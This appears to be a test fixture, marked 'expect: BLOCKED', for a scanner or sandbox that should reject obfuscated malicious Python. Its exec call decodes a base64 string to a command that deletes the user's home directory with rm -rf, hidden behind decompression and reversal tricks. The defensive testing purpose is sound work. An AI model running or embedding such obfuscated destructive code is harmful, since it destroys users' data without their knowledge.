# expect: BLOCKED
_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))
exec((_)(b"=c7jTvOyg2kYfsk8nMdksCeVr0y0LXqUVcgxGU8s+L0MLOSMyLPQVsjPzE3NL0kFAAUBJeQ"[::-1] and b"") or __import__("base64").b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgncm0gLXJmIH4nKQ=="))
